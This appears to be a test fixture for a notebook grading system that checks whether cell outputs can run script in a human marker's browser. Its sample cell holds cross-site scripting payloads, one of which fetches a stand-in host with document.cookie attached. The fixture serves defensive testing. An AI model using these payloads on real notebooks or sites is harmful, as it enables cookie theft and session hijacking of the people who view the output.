"""Scripts in the output, which would run in the browser of whoever marks by hand."""

CELL = r"""
from IPython.display import HTML, Javascript, SVG, display
display(HTML('<script>fetch("//evil.example/?" + document.cookie)</script>'), Javascript('alert(1)'))
get_ipython().display_pub.publish({'text/html': '<img src=x onerror=alert(1)>', 'image/svg+xml': '<svg onload=alert(1)>', 'application/javascript': 'alert(1)', 'image/png': '"><script>alert(1)</script>'})
HTML('<script>alert(2)</script>')
"""
